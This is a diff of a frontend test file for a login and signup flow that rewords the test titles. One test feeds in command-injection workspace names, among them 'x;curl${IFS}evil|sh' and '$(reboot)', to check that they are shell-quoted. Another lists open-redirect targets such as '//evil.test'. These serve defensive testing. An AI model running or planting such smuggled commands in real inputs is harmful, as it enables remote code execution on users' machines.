@@ -19,7 +19,7 @@ beforeEach(() => localStorage.clear());
 const workspace = () => screen.findByLabelText('Workspace');
 
 describe('the workspace', () => {
-  test('has to be named, in the words of what was asked', async () => {
+  test('is required, with a different message for login and signup', async () => {
     answerWith(instances);
     renderRoutes(routes, { at: '/login' });
     await workspace();
@@ -29,7 +29,7 @@ describe('the workspace', () => {
     expect(await screen.findByText('Enter an instance name')).toBeVisible();
   });
 
-  test('that is known leads to the second step, and Back leads back', async () => {
+  test('leads to the second step if it exists, and Back returns', async () => {
     answerWith(instances);
     renderRoutes(routes, { at: '/login' });
     await userEvent.type(await workspace(), 'harbour{Enter}');
@@ -43,7 +43,7 @@ describe('the workspace', () => {
     ['x;curl${IFS}evil|sh', `'x;curl${'${IFS}'}evil|sh'`],
     ['my $(reboot) yard', "'my $(reboot) yard'"],
     ["o'hara", String.raw`'o'\''hara'`],
-  ])('stands in the command to be pasted as one word: %s', async (name, word) => {
+  ])('is quoted as one word in the shell command: %s', async (name, word) => {
     answerWith(instances);
     renderRoutes(routes, { at: `/login?instance=${encodeURIComponent(name)}` });
     await workspace();
@@ -51,7 +51,7 @@ describe('the workspace', () => {
     expect(await screen.findByText(`npm run sign-in-link -- --workspace ${word}`)).toBeVisible();
   });
 
-  test('that is not known says so at login and goes on at signup', async () => {
+  test('that does not exist is reported at login and accepted at signup', async () => {
     answerWith(instances);
     renderRoutes(routes, { at: '/login' });
     await userEvent.type(await workspace(), 'shipyard{Enter}');
@@ -60,7 +60,7 @@ describe('the workspace', () => {
     expect(await screen.findByRole('heading', { name: 'Sign up to your account' })).toBeVisible();
   });
 
-  test('that exists cannot be signed up again', async () => {
+  test('that exists is refused at signup', async () => {
     answerWith(instances);
     renderRoutes(routes, { at: '/login' });
     await userEvent.type(await workspace(), 'harbour');
@@ -70,7 +70,7 @@ describe('the workspace', () => {
     ).toBeVisible();
   });
 
-  test('in the address is entered at once', async () => {
+  test('in the address leads to the second step at once', async () => {
     answerWith(instances);
     renderRoutes(routes, { at: '/login?instance=harbour' });
     expect(await screen.findByText(/no sign-in provider configured/)).toBeVisible();
@@ -84,7 +84,7 @@ describe('with a provider', () => {
   test.each([
     ['Login', 'harbour', 'Sign in with GitHub'],
     ['Signup', 'shipyard', 'Sign up with GitHub'],
-  ])('%s ends in the one button of the source host', async (button, name, words) => {
+  ])('%s offers the source host first, and Google on request', async (button, name, words) => {
     answerWith({ ...instances, 'GET /api/auth/providers': { body: [github, google] } });
     renderRoutes(routes, { at: '/login' });
     await userEvent.type(await workspace(), name);
@@ -97,7 +97,7 @@ describe('with a provider', () => {
     expect(screen.queryByRole('button', { name: words })).toBeNull();
   });
 
-  test('a provider that cannot be asked says so, and the button stays', async () => {
+  test('an unreachable provider is reported, and its button stays', async () => {
     answerWith({
       ...instances,
       'GET /api/auth/providers': { body: [google] },
@@ -114,7 +114,7 @@ describe('with a provider', () => {
 });
 
 describe('a one-time link', () => {
-  test('signs in and goes on to where one wanted to go', async () => {
+  test('signs in and opens the wanted page', async () => {
     const { calls } = answerWith({
       'POST /api/auth/link': { body: sessionOf() },
       'GET /api/session': { body: sessionOf() },
@@ -127,7 +127,7 @@ describe('a one-time link', () => {
     ]);
   });
 
-  test('comes before whoever this browser remembers, also when their session has ended', async () => {
+  test('has precedence over the session stored in the browser', async () => {
     const { instance, profile } = sessionOf();
     const other = { ...sessionOf(), profile: { ...profile, instance: { ...instance, name: 'dockyard' } } };
     answerWith({ 'POST /api/auth/link': { body: other }, 'GET /api/session': { body: other } });
@@ -136,21 +136,21 @@ describe('a one-time link', () => {
     await waitFor(() => expect(router.state.location.pathname).toBe('/app'));
   });
 
-  test('that was used says so, and how to get another', async () => {
+  test('that was already used says so, and explains how to get another', async () => {
     answerWith({ 'POST /api/auth/link': { status: 401, body: { msg: 'used' } } });
     renderRoutes(routes, { at: '/login?code=once-2' });
     expect(await screen.findByText('This sign-in link is no longer valid')).toBeVisible();
     expect(screen.getByText('npm run sign-in-link')).toBeVisible();
   });
 
-  test('that could not be tried is still good', async () => {
+  test('remains valid if the server could not check it', async () => {
     answerWith({ 'POST /api/auth/link': { status: 503, body: { msg: 'The log cannot be reached' } } });
     renderRoutes(routes, { at: '/login?code=once-3' });
     expect(await screen.findByText('The link was not used up. Try again in a moment.')).toBeVisible();
   });
 });
 
-test('one comes to the own area, to the page that was asked for, and nowhere but into the console', () => {
+test('after sign-in opens the wanted page of the console, or else the start page of the role', () => {
   const wanted = ['/app/server?q=1', 'https://evil.test', '//evil.test', '/application', '/app', null];
   expect(wanted.map((one) => landingOf(sessionOf('admin'), one))).toEqual([
     '/app/server?q=1',
@@ -168,7 +168,7 @@ test('one comes to the own area, to the page that was asked for, and nowhere but
   expect(landingOf({ ...ofProduct, permissions: ['admin', 'superadmin'] })).toBe('/superadmin');
 });
 
-test('signing out ends the session here even when the server cannot be told, and logs it', async () => {
+test('signing out ends the session in the browser even if the call fails, which is logged', async () => {
   const logged = jest.spyOn(console, 'error').mockImplementation(() => undefined);
   answerWith({ 'POST /api/auth/logout': { status: 500, body: { msg: 'x' } } });
   const { store, router } = renderRoutes(routes, { at: '/logout', session: sessionOf() });
